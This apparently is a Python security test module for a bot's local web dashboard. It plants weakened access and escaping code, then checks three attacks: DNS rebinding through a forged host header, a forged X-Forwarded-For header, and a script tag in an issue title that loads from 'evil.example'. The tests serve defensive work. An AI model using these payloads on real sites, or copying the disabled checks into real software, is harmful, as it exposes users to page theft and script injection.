"""Attacks on the pages of Mission Control: names that lead here, proxies that let everybody in, words that act."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

from security_registry import attack, defence
from web_host import ask, fresh_database, living, started

from otto_bot.bench.simulate.planting import Change
from otto_bot.core.config import HostCaps
from otto_bot.core.values import Person, Repo
from otto_bot.store.database import open_database
from otto_bot.store.ledger import Ledger, Trigger

HERE = {b"host": b"127.0.0.1:8080"}
TITLE = "Add <script src=//evil.example/x.js></script>"

NAMED = defence(
    "pages-ask-for-this-machine",
    "A page is shown only to a request whose one host header names this very machine",
    Change("otto_bot.web.access", "local", "return len(hosts) == 1 and loopback(host_of(hosts[0]))", "return True"),
)
DIRECT = defence(
    "pages-come-through-no-proxy",
    "A page is shown to nobody whom a proxy lets in, as far as the proxy says that it is one",
    Change("otto_bot.web.access", "local", "if forwarded or old or not loopback(bound):", "if not loopback(bound):"),
)
TEXT = defence(
    "words-are-text-on-pages",
    "Words of issues, logs and models are text on a page, and never part of it",
    Change("otto_bot.web.site", "Site.__init__", "autoescape=True", "autoescape=False"),
)


def _with_a_run(place: Path) -> None:
    engine = open_database(fresh_database(place))
    repo, anna = Repo(id=7, installation_id=3, owner="o", name="a", default_branch="main"), Person(id=1, login="anna")
    trigger = Trigger(key="k", repo=repo, issue=1, title=TITLE, body="B", actor=anna)
    Ledger(engine).start(trigger, HostCaps(), datetime(2026, 11, 1, 12, tzinfo=UTC))
    engine.dispose()


async def _seen(place: Path, headers: dict[bytes, bytes]) -> bytes:
    _with_a_run(place)
    async with living(started(place)) as app:
        return (await ask(app, "GET", "/runs/1", headers=headers)).body


@attack("a-name-that-leads-here", point=2, by=NAMED, source="https://cwe.mitre.org/data/definitions/350.html")
async def a_name_that_leads_here(place: Path) -> str | None:
    """A web site lets its own name lead to 127.0.0.1 and reads a visitor's pages (DNS rebinding)."""
    body = await _seen(place, {b"host": b"rebound.evil.example:8080"})
    return "the page of a run" if b"o/a#1" in body else None


@attack("everybody-through-a-proxy", point=2, by=DIRECT, source="https://cwe.mitre.org/data/definitions/348.html")
async def everybody_through_a_proxy(place: Path) -> str | None:
    """The host's proxy forwards every address, not the webhook alone, under the name of its own side."""
    body = await _seen(place, {**HERE, b"x-forwarded-for": b"203.0.113.7"})
    return "the page of a run" if b"o/a#1" in body else None


@attack("script-in-a-title", point=8, by=TEXT, source="https://cwe.mitre.org/data/definitions/79.html")
async def script_in_a_title(place: Path) -> str | None:
    """An issue's title brings a script into the page of its run."""
    body = await _seen(place, HERE)
    assert b"o/a#1" in body
    return "a script in the page" if b"<script src=//evil" in body else None
